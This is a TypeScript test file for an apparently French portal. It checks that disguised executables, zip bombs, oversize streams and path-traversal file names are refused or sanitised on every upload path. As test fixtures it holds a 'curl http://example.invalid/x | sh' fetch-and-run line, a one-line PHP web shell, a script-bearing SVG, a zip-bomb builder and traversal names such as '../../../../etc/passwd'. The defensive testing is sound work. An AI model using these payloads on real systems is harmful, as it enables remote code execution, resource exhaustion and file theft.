// Hostile files through the real upload paths — a dossier's pieces (the form and the script-driven
// endpoint) and the attachments of a message, from the applicant and from the instructor: executables and
// scripts under a document's name, zip bombs dressed as office documents, an oversize stream, and file
// names built to escape the storage folder. Each file is refused in French with nothing stored (no row,
// no file) or, for a name, kept under a generated key with a cleaned name.
import { mkdtemp, readdir, rm } from "node:fs/promises";
import { tmpdir } from "node:os";
import path from "node:path";
import { deflateRawSync, constants as zlib } from "node:zlib";

import type { ActionFunctionArgs } from "@remix-run/node";
import { afterAll, afterEach, beforeAll, describe, expect, it } from "vitest";

import { UPLOAD_MESSAGES } from "~/domain/uploads";
import { SchemeCode } from "~/generated/prisma/enums";
import { startDossier } from "~/services/applicant/dossiers.server";
import { isValidStorageKey, LocalFileStorage } from "~/services/platform/storage.server";
import { inspectUpload } from "~/services/platform/uploads.server";

import { A_VOS_ID_DOSSIERS } from "../../seeds/demo/dossiers-a-vos-id";
import { CAP_ASSO_DOSSIERS } from "../../seeds/demo/dossiers-cap-asso";
import { databaseKinds } from "../support/database";
import { SAMPLE_FILES } from "../support/files";
import { bindAppDatabase, fuzzRequest, type FuzzFile } from "../support/fuzz";
import { cookieOf, outcome } from "../support/routes";
import { createWorld, fileDemo, type World } from "../support/instruction-world";
import { startInstruction } from "~/services/instruction/actions.server";

const GIB = 1024 ** 3;
const CONTENT_TYPES = (main: string, type: string) =>
  `<?xml version="1.0" encoding="UTF-8"?><Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types"><Default Extension="xml" ContentType="application/xml"/><Override PartName="/${main}" ContentType="application/vnd.openxmlformats-officedocument.${type}.main+xml"/></Types>`;
const DOCX_HEAD = {
  name: "[Content_Types].xml",
  text: CONTENT_TYPES("word/document.xml", "wordprocessingml.document"),
};
const XLSX_HEAD = {
  name: "[Content_Types].xml",
  text: CONTENT_TYPES("xl/workbook.xml", "spreadsheetml.sheet"),
};
const ODT_HEAD = { name: "mimetype", text: "application/vnd.oasis.opendocument.text", stored: true };

interface ZipEntry {
  name: string;
  text?: string;
  stored?: boolean;
  /** Deflated data given as is, with the size it claims to expand to. */
  deflated?: { data: Buffer; claimedSize: number };
}

/** A ZIP archive as office suites write them, with whatever sizes an attacker claims. */
function archive(entries: ZipEntry[]): Buffer {
  const parts: Buffer[] = [];
  const directory: Buffer[] = [];
  let offset = 0;
  for (const entry of entries) {
    const name = Buffer.from(entry.name);
    const raw = Buffer.from(entry.text ?? "");
    const data = entry.deflated?.data ?? (entry.stored ? raw : deflateRawSync(raw));
    const size = entry.deflated?.claimedSize ?? raw.length;
    const method = entry.stored ? 0 : 8;
    const header = (signature: number, length: number, at: number) => {
      const block = Buffer.alloc(length);
      block.writeUInt32LE(signature, 0);
      block.writeUInt16LE(20, at);
      block.writeUInt16LE(method, at + 4);
      block.writeUInt32LE(data.length, at + 14);
      block.writeUInt32LE(size, at + 18);
      block.writeUInt16LE(name.length, at + 22);
      return block;
    };
    parts.push(header(0x04034b50, 30, 4), name, data);
    const central = header(0x02014b50, 46, 6);
    central.writeUInt32LE(offset, 42);
    directory.push(central, name);
    offset += 30 + name.length + data.length;
  }
  const size = directory.reduce((total, part) => total + part.length, 0);
  const end = Buffer.alloc(22);
  end.writeUInt32LE(0x06054b50, 0);
  end.writeUInt16LE(entries.length, 8);
  end.writeUInt16LE(entries.length, 10);
  end.writeUInt32LE(size, 12);
  end.writeUInt32LE(offset, 16);
  return Buffer.concat([...parts, ...directory, end]);
}

/**
 * Deflated zeros that expand to `bytes`, built without ever holding them: one MiB compressed once and
 * flushed to a byte boundary, repeated, then a final empty block. ~1 KiB per MiB.
 */
function deflatedZeros(bytes: number): Buffer {
  const mebibyte = deflateRawSync(Buffer.alloc(1024 * 1024), { finishFlush: zlib.Z_SYNC_FLUSH });
  return Buffer.concat([
    ...Array.from({ length: bytes / (1024 * 1024) }, () => mebibyte),
    Buffer.from([3, 0]),
  ]);
}

const BOMBS: Array<[string, string, Buffer]> = [
  [
    "a DOCX whose picture expands to 2 Gio",
    "projet.docx",
    archive([
      DOCX_HEAD,
      { name: "word/media/image1.png", deflated: { data: deflatedZeros(2 * GIB), claimedSize: 2 * GIB } },
    ]),
  ],
  [
    "a DOCX that claims 64 Kio but expands to 256 Mio",
    "projet.docx",
    archive([
      DOCX_HEAD,
      { name: "word/document.xml", deflated: { data: deflatedZeros(256 * 1024 ** 2), claimedSize: 65_536 } },
    ]),
  ],
  [
    "an ODT whose content expands to 1 Gio",
    "statuts.odt",
    archive([ODT_HEAD, { name: "content.xml", deflated: { data: deflatedZeros(GIB), claimedSize: GIB } }]),
  ],
  [
    "an XLSX of 5,000 entries",
    "budget.xlsx",
    archive([
      XLSX_HEAD,
      ...Array.from({ length: 5_000 }, (_, n) => ({ name: `xl/worksheets/sheet${n}.xml`, text: "<x/>" })),
    ]),
  ],
];

const DISGUISED: Array<[string, string, Buffer]> = [
  [
    "a Linux executable",
    "statuts.pdf",
    Buffer.concat([Buffer.from([0x7f, 0x45, 0x4c, 0x46, 2, 1, 1, 0]), Buffer.alloc(120)]),
  ],
  ["a Windows executable", "budget.pdf", SAMPLE_FILES.exe],
  ["a shell script", "releve.pdf", Buffer.from("#!/bin/sh\ncurl http://example.invalid/x | sh\n")],
  ["a PHP script", "logo.png", Buffer.from("<?php system($_GET['c']); ?>")],
  [
    "an SVG image with a script",
    "logo.png",
    Buffer.from('<svg xmlns="http://www.w3.org/2000/svg"><script>alert(1)</script></svg>'),
  ],
  ["an HTML page", "rib.pdf", SAMPLE_FILES.html],
];

describe.each(databaseKinds())("hostile uploads on %s", (kind) => {
  let world: World;
  let root: string;
  let applicant: string;
  let instructor: string;
  let draft: string;
  let filed: string;
  let instructed: string;
  let pieceKind: string;
  /** Numbers each message: the same words twice in a row are taken for a double click and posted once. */
  let sent = 0;

  beforeAll(async () => {
    world = await createWorld(kind);
    bindAppDatabase(world.database);
    root = await mkdtemp(path.join(tmpdir(), "hostile-uploads-"));
    globalThis.__storage = new LocalFileStorage(root);
    const { db } = world;
    const mine = await fileDemo(world, CAP_ASSO_DOSSIERS[0]!);
    const other = await fileDemo(world, A_VOS_ID_DOSSIERS[0]!);
    const { revision } = await db.dossier.findUniqueOrThrow({ where: { id: other.id } });
    await startInstruction(db, {
      actor: world.instructor,
      dossierId: other.id,
      revision,
      appUrl: "https://portail.example.fr",
    });
    const { organisationId } = await db.dossier.findUniqueOrThrow({ where: { id: mine.id } });
    draft = (
      await startDossier(db, { userId: mine.owner.id, organisationId, schemeCode: SchemeCode.CAP_ASSO })
    ).id;
    const { ruleSet } = await db.dossier.findUniqueOrThrow({
      where: { id: draft },
      include: { ruleSet: true },
    });
    pieceKind = (ruleSet.parameters as { requiredAttachments: Array<{ kind: string }> })
      .requiredAttachments[0]!.kind;
    filed = mine.id;
    instructed = other.id;
    applicant = await cookieOf(db, mine.owner.id);
    instructor = await cookieOf(db, world.instructor.id);
  });

  afterEach(() => {
    delete process.env.UPLOAD_MAX_BYTES;
  });

  afterAll(async () => {
    globalThis.__storage = undefined;
    await world?.database.close();
    await rm(root, { recursive: true, force: true });
    await rm(world.root, { recursive: true, force: true });
  });

  type Action = (args: ActionFunctionArgs) => Promise<unknown>;
  const routes = async () => ({
    pieces: (await import("~/routes/dossiers.$id.pieces")).action as Action,
    send: (await import("~/routes/dossiers.$id.pieces.envoi")).action as Action,
    overview: (await import("~/routes/dossiers.$id._index")).action as Action,
    staff: (await import("~/routes/instruction.dossiers.$id")).action as Action,
  });

  /** Posts `file` through one upload path; what it answered and what the database and folder now hold. */
  async function upload(pathName: "pieces" | "send" | "overview" | "staff", file: Omit<FuzzFile, "field">) {
    const actions = await routes();
    const [url, id, cookie, fields, field] = {
      pieces: [`/dossiers/${draft}/pieces`, draft, applicant, [["kind", pieceKind]], "file"],
      send: [`/dossiers/${draft}/pieces/envoi`, draft, applicant, [["kind", pieceKind]], "file"],
      overview: [
        `/dossiers/${filed}`,
        filed,
        applicant,
        [
          ["intent", "message"],
          ["body", `Voici la pièce ${++sent}.`],
        ],
        "attachments",
      ],
      staff: [
        `/instruction/dossiers/${instructed}`,
        instructed,
        instructor,
        [
          ["intent", "message"],
          ["body", `Voici le modèle ${++sent}.`],
        ],
        "attachments",
      ],
    }[pathName] as [string, string, string, Array<[string, string]>, string];
    const request = fuzzRequest(url, { kind: "multipart", fields, files: [{ field, ...file }] }, cookie);
    const answer = await outcome(
      actions[pathName]({ request, params: { id }, context: {} } as unknown as ActionFunctionArgs),
    );
    return { answer, rows: await world.db.attachment.count(), files: await storedFiles() };
  }

  async function storedFiles(): Promise<string[]> {
    const entries = await readdir(root, { recursive: true, withFileTypes: true });
    return entries
      .filter((entry) => entry.isFile())
      .map((entry) => path.relative(root, path.join(entry.parentPath, entry.name)));
  }

  async function expectRefused(
    pathName: Parameters<typeof upload>[0],
    file: Omit<FuzzFile, "field">,
    message: string,
  ) {
    const before = { rows: await world.db.attachment.count(), files: await storedFiles() };
    const { answer, rows, files } = await upload(pathName, file);
    expect(answer.status, answer.text).toBe(400);
    expect(answer.text).toContain(message.slice(0, 60));
    expect({ rows, files }).toEqual(before);
  }

  const PATHS = ["pieces", "send", "overview", "staff"] as const;

  it.each(DISGUISED)("refuses %s named « %s » on every upload path", async (_what, fileName, bytes) => {
    for (const pathName of PATHS) {
      await expectRefused(
        pathName,
        { fileName, contentType: "application/pdf", bytes },
        UPLOAD_MESSAGES.refused,
      );
    }
  });

  it.each(BOMBS)(
    "refuses %s, recognised as an office document but not kept",
    async (_what, fileName, bytes) => {
      expect(bytes.length).toBeLessThan(4 * 1024 * 1024);
      const started = Date.now();
      for (const pathName of PATHS) {
        await expectRefused(
          pathName,
          { fileName, contentType: "application/octet-stream", bytes },
          UPLOAD_MESSAGES.archive,
        );
      }
      // Refused from its directory or by inflating within the size it claims: never by expanding it all.
      expect(Date.now() - started).toBeLessThan(10_000);
    },
  );

  it("still takes genuine office documents", async () => {
    for (const extension of ["docx", "xlsx", "odt", "ods"] as const) {
      expect(await inspectUpload(SAMPLE_FILES[extension], `piece.${extension}`)).toMatchObject({
        ok: true,
        extension,
      });
    }
  });

  it("refuses a file above UPLOAD_MAX_BYTES on every path, whatever size it declares", async () => {
    process.env.UPLOAD_MAX_BYTES = "65536";
    const big = Buffer.concat([SAMPLE_FILES.pdf, Buffer.alloc(70_000, 0x20)]);
    for (const pathName of PATHS) {
      await expectRefused(
        pathName,
        { fileName: "comptes.pdf", contentType: "application/pdf", bytes: big },
        UPLOAD_MESSAGES.tooLarge(65_536),
      );
    }
  });

  it("refuses a 64 Mio upload streamed in chunks without holding it, and one announcing 5 Gio before reading it", async () => {
    process.env.UPLOAD_MAX_BYTES = "1048576";
    const { pieces } = await routes();
    const boundary = "----hostile";
    const head = Buffer.from(
      `--${boundary}\r\nContent-Disposition: form-data; name="kind"\r\n\r\n${pieceKind}\r\n--${boundary}\r\nContent-Disposition: form-data; name="file"; filename="comptes.pdf"\r\nContent-Type: application/pdf\r\n\r\n%PDF-1.4\n`,
    );
    const chunk = Buffer.alloc(256 * 1024, 0x20);
    const streamed = (chunks: number, length?: number) => {
      let sent = 0;
      const body = new ReadableStream<Uint8Array>({
        pull(controller) {
          if (sent === 0) controller.enqueue(head);
          if (sent === chunks) {
            controller.enqueue(Buffer.from(`\r\n--${boundary}--\r\n`));
            controller.close();
          } else controller.enqueue(chunk);
          sent += 1;
        },
      });
      const headers = new Headers({
        "Content-Type": `multipart/form-data; boundary=${boundary}`,
        Origin: "http://localhost:3000",
        Cookie: applicant,
      });
      if (length) headers.set("Content-Length", String(length));
      const request = new Request(`http://localhost:3000/dossiers/${draft}/pieces`, {
        method: "POST",
        headers,
        body,
        duplex: "half",
      } as RequestInit);
      return { request, chunksRead: () => sent };
    };
    const before = { rows: await world.db.attachment.count(), files: await storedFiles() };

    const announced = streamed(20 * 1024, 5 * GIB);
    const early = await outcome(
      pieces({
        request: announced.request,
        params: { id: draft },
        context: {},
      } as unknown as ActionFunctionArgs),
    );
    expect(early.status).toBe(400);
    expect(early.text).toContain(UPLOAD_MESSAGES.tooLarge(1_048_576));
    expect(announced.chunksRead()).toBeLessThan(4);

    const memory = () => process.memoryUsage().arrayBuffers + process.memoryUsage().heapUsed;
    const start = memory();
    let peak = start;
    const chunked = streamed(256);
    const sampler = setInterval(() => (peak = Math.max(peak, memory())), 5);
    const late = await outcome(
      pieces({
        request: chunked.request,
        params: { id: draft },
        context: {},
      } as unknown as ActionFunctionArgs),
    );
    clearInterval(sampler);
    expect(late.status).toBe(400);
    expect(late.text).toContain(UPLOAD_MESSAGES.tooLarge(1_048_576));
    expect(chunked.chunksRead()).toBe(257);
    // Read to its end (the browser is still sending) but dropped chunk by chunk: far less than 64 Mio held.
    expect(peak - start).toBeLessThan(32 * 1024 * 1024);
    expect({ rows: await world.db.attachment.count(), files: await storedFiles() }).toEqual(before);
  });

  it("keeps a genuine file sent under a hostile or unusual name under a generated key, with a cleaned name", async () => {
    const names: Array<[string, string]> = [
      ["../../../../etc/passwd", "passwd.pdf"],
      ["..\\..\\Windows\\System32\\config.pdf", "config.pdf"],
      ["statuts\u0000.exe", "statuts.pdf"],
      ["facture\u202efdp.exe", "facturefdp.pdf"],
      ["<script>alert(1)</script>.pdf", "script.pdf"],
      [`${"é".repeat(5_000)}.pdf`, `${"é".repeat(116)}.pdf`],
      // Ordinary names a treasurer types, which Remix's parser alone would refuse.
      ["CR; AG=2025 à 100%.pdf", "CR; AG=2025 à 100%.pdf"],
    ];
    const seen = (await world.db.attachment.findMany({ select: { id: true } })).map((row) => row.id);
    for (const pathName of PATHS) {
      for (const [fileName, cleaned] of names) {
        const { answer } = await upload(pathName, {
          fileName,
          contentType: "application/pdf",
          bytes: SAMPLE_FILES.pdf,
        });
        expect(
          answer.status,
          `${pathName} ${JSON.stringify(fileName).slice(0, 40)} ${answer.text}`,
        ).toBeLessThan(400);
        const [stored, ...more] = await world.db.attachment.findMany({ where: { id: { notIn: seen } } });
        expect([stored?.fileName, more], `${pathName} ${answer.status} ${answer.location}`).toEqual([
          cleaned,
          [],
        ]);
        seen.push(stored!.id);
        expect(stored!.fileName).toBe(cleaned);
        expect(isValidStorageKey(stored!.storageKey)).toBe(true);
        expect(stored!.storageKey).not.toMatch(/passwd|config|statuts|\.\./);
      }
    }
    // Every file the portal wrote is inside its folder, under a key it generated.
    const files = await storedFiles();
    expect(files.length).toBeGreaterThan(0);
    for (const file of files) expect(isValidStorageKey(file.split(path.sep).join("/"))).toBe(true);
  });
});
